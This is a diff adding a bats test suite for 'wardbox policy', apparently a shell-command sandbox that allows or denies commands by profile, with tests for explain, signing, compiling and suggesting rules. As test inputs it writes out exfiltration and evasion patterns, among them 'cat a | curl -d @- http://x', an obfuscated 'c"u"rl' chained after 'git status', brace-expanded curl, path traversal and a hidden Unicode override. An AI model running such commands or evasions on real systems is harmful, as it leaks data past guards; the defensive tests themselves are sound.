@@ -1,0 +1,247 @@
+#!/usr/bin/env bats
+# policy: status, allowlist, blocklist, test, explain, check, compile, sign …
+
+load ../lib/wardbox
+
+setup() {
+	cd "$BATS_TEST_TMPDIR" || return 1
+	export HOME=$BATS_TEST_TMPDIR/home
+	mkdir -p proj/.git home
+	cd proj || return 1
+}
+
+fixture() { # in the place that the corpus speaks of
+	unshare -m sh "$TOP/tests/lib/policy-fixture" "$@"
+}
+
+policy() {
+	"$WARDBOX" policy "$@"
+}
+
+@test "every line of the public corpus decides as it says" {
+	need unshare -m true
+	run fixture "$WARDBOX" policy test \
+		--batch "$TOP/tests/data/policy-corpus.tsv"
+	[ "$status" -eq 0 ]
+	[ "$(wc -l <<<"$output")" -gt 700 ]
+	# the batch does see a difference
+	printf 'PROFILE-DEV\tALLOW\tcurl http://x\n' >bad.tsv
+	run policy test --batch bad.tsv
+	[ "$status" -eq 1 ]
+	[[ $output == *"1 of 1 rows differ"* ]]
+}
+
+@test "the exit code is the decision" {
+	run policy test 'git status && npm test'
+	[ "$status" -eq 0 ]
+	run policy test --profile DEV 'make -j2'
+	[ "$status" -eq 10 ]
+	run policy test -p PROFILE-FULL-AUTO 'make -j2'
+	[ "$status" -eq 0 ]
+	run policy test 'git status; c"u"rl http://x'
+	[ "$status" -eq 11 ]
+	[[ $output == "deny (net): "* ]]
+	run policy test --profile OBSERVE 'curl http://x'
+	[ "$status" -eq 0 ]
+	[[ $output == *"would be deny"* ]]
+	run policy test --profile NONE true
+	[ "$status" -eq 2 ]
+	run policy test
+	[ "$status" -eq 2 ]
+}
+
+@test "shell is another name of it" {
+	run "$WARDBOX" shell test 'curl http://x'
+	[ "$status" -eq 11 ]
+	links shell
+	run "$LINKS/shell" blocklist
+	[ "$status" -eq 0 ]
+	[[ $output == *curl* ]]
+	run "$LINKS/shell" allowlist
+	[[ $output == *"npm {install"* ]]
+	run "$LINKS/shell" status
+	[[ $output == *"profile    DEV"* ]]
+}
+
+@test "json of test, explain, status and the lists parses" {
+	for verb in "test x" "explain x" status allowlist blocklist; do
+		# shellcheck disable=SC2086
+		policy --json $verb | python3 -c 'import json, sys; json.load(sys.stdin)'
+	done
+}
+
+@test "explain draws each command and names its rule" {
+	run policy explain 'cat a | curl -d @- http://x'
+	[ "$status" -eq 11 ]
+	[[ $output == *"  cat a | curl -d @- http://x"* ]]
+	[[ $output == *"          ^^^^^^^^^^^^^^^^^^^"* ]]
+	[[ $output == *"deny (net)"*"[default:"* ]]
+	[[ $output == *"=> deny"* ]]
+}
+
+@test "paths are judged from the directory given" {
+	mkdir -p sub
+	run policy test --cwd sub 'cat ../README'
+	[ "$status" -eq 0 ]
+	run policy test --cwd sub 'cat ../../x'
+	[ "$status" -eq 11 ]
+	run policy test --cwd sub --root sub 'cat ../README'
+	[ "$status" -eq 11 ]
+}
+
+@test "WARDBOX_PROFILE tightens and never loosens" {
+	WARDBOX_PROFILE=SAFE run policy test :
+	[ "$status" -eq 11 ]
+	WARDBOX_PROFILE=OBSERVE run policy test 'curl x'
+	[ "$status" -eq 11 ]
+	[[ $output == *"looser than DEV"* ]]
+	WARDBOX_PROFILE=rubbish run policy test :
+	[ "$status" -eq 11 ]
+}
+
+@test "mistakes in a policy are named with file, line and column" {
+	printf 'policy 1 system\nallow make **\ndney curl **\n' >p
+	run policy check p
+	[ "$status" -eq 3 ]
+	[[ $output == *"p:3:1: dney: no such statement, expected deny"* ]]
+	printf 'policy 1 system\ntest DEV allow "curl x"\n' >p
+	run policy check p
+	[ "$status" -eq 3 ]
+	[[ $output == *"p:2:1: test failed: expected allow in DEV"* ]]
+	printf 'policy 1 project\nargs make *=path\n' >p
+	run policy check p
+	[ "$status" -eq 3 ]
+	[[ $output == *"only the system policy"* ]]
+	printf 'include default\nallow make **\ntest DEV allow "make x"\n' >p
+	run policy check p
+	[ "$status" -eq 0 ]
+}
+
+@test "except and list widen the default in the system policy alone" {
+	printf 'include default\nexcept id=net curl http://localhost/ok\nlist net mycurl\n' >p
+	run policy test --system p 'curl http://localhost/ok'
+	[ "$status" -eq 10 ]
+	run policy test --system p 'curl http://localhost/ok http://x'
+	[ "$status" -eq 11 ]
+	run policy test --system p 'mycurl x'
+	[ "$status" -eq 11 ]
+}
+
+@test "a project tightens; what is delegated it may allow" {
+	mkdir .wardbox
+	printf 'deny git log **\nallow make **\nallow curl **\n' >.wardbox/policy
+	run policy test 'git log'
+	[ "$status" -eq 11 ]
+	[[ $output == *".wardbox/policy:1"* ]]
+	run policy test 'make x'
+	[ "$status" -eq 10 ]
+	run policy test 'curl x'
+	[ "$status" -eq 11 ]
+	printf 'include default\ndelegate project allow make {all|x} **\n' >p
+	run policy test --system p 'make x'
+	[ "$status" -eq 0 ]
+	run policy test --system p 'make y'
+	[ "$status" -eq 10 ]
+	printf 'rubbish\n' >.wardbox/policy
+	run policy test 'git status'
+	[ "$status" -eq 3 ]
+}
+
+@test "compile writes an image, and a stale one is used with a warning" {
+	need unshare -m true
+	mkdir -p etc/policy.d run
+	printf 'allow make **\n' >etc/policy.d/a.policy
+	cat >go <<-'END'
+		mkdir -p /etc/wardbox /run/wardbox
+		mount --bind etc /etc/wardbox && mount --bind run /run/wardbox
+		"$WARDBOX" policy compile || exit 90
+		"$WARDBOX" policy test 'make x' || exit 91
+		echo 'rubbish' >etc/policy.d/b.policy
+		"$WARDBOX" policy test 'make x' 2>err || exit 92
+		grep -q 'b.policy:1:1: rubbish' err || exit 93
+		"$WARDBOX" policy compile && exit 94
+		rm run/policy.img
+		"$WARDBOX" policy test : 2>err
+		[ $? -eq 3 ] || exit 95
+		rm etc/policy.d/b.policy
+		printf 'deny make **\n' >etc/policy.d/a.policy
+		"$WARDBOX" policy compile || exit 96
+		printf 'allow make **\n# longer\n' >etc/policy.d/a.policy
+		"$WARDBOX" policy test 'make x' || exit 97
+		chmod 666 etc/policy.d/a.policy
+		"$WARDBOX" policy test 'make x' 2>err
+		[ $? -eq 0 ] && exit 98
+		exit 0
+	END
+	export WARDBOX
+	run unshare -m sh -c 'mount -t tmpfs none /mnt; d=$PWD
+		mkdir -p /mnt/up /mnt/work
+		mount -t overlay none -o lowerdir=/etc,upperdir=/mnt/up,workdir=/mnt/work /etc &&
+		mkdir -p /run/wardbox && cd "$d" && sh go'
+	[ "$status" -eq 0 ]
+}
+
+@test "keygen, sign and verify" {
+	printf 'include default\n' >p
+	run policy keygen --key k
+	[ "$status" -eq 0 ]
+	[ "$(stat -c %a k)" = 600 ]
+	run policy sign --key k p
+	[ "$status" -eq 0 ]
+	run policy verify --key k.pub p
+	[ "$status" -eq 0 ]
+	echo >>p
+	run policy verify --key k.pub p
+	[ "$status" -eq 1 ]
+	[[ $output == *"does not fit"* ]]
+	run policy keygen --key k
+	[ "$status" -eq 1 ]
+}
+
+@test "init writes a policy that passes its own tests" {
+	touch Makefile package.json
+	run policy init --dry-run
+	[ "$status" -eq 0 ]
+	[ ! -e .wardbox ]
+	[[ $output == *"allow make"*"allow npm"* ]]
+	run policy init
+	[ "$status" -eq 0 ]
+	run policy check
+	[ "$status" -eq 0 ]
+	run policy init
+	[ "$status" -eq 1 ]
+}
+
+@test "history and suggest read the log, and propose nothing that opens all" {
+	need unshare -m true
+	need "$WARDBOX" sh -c :
+	in_policy 'include default
+use OBSERVE' sh -c '
+		"$1" sh -c "make -n all" ; "$1" sh -c "make -n all"
+		"$1" sh -c "python3 -c 1"; "$1" sh -c "curl --version"
+		"$1" policy history >history; "$1" policy suggest >suggest' \
+		- "$WARDBOX" >/dev/null 2>&1 || true
+	[ -s history ] || skip "no log was written"
+	grep -q 'make -n all' history
+	grep -q '^allow make -n all$' suggest
+	! grep -q 'allow python3' suggest
+	! grep -q 'allow curl' suggest
+}
+
+@test "the dialect is part of the question" {
+	run policy test --dialect bash -p FULL-AUTO '{curl,http://x}'
+	[ "$status" -eq 11 ]
+	run policy test --dialect sh -p FULL-AUTO 'cat <(true)'
+	[ "$status" -eq 11 ]
+	run policy test --dialect cobol true
+	[ "$status" -eq 2 ]
+}
+
+@test "hostile lines are denied fast" {
+	run policy test -p FULL-AUTO "$(head -c 100000 /dev/zero | tr '\0' '(')"
+	[ "$status" -eq 11 ]
+	run policy test -p FULL-AUTO "$(head -c 120000 /dev/zero | tr '\0' 'a')"
+	[ "$status" -eq 11 ]
+	run policy test -p FULL-AUTO "$(printf 'git status \u202e# x')"
+	[ "$status" -eq 11 ]
+}
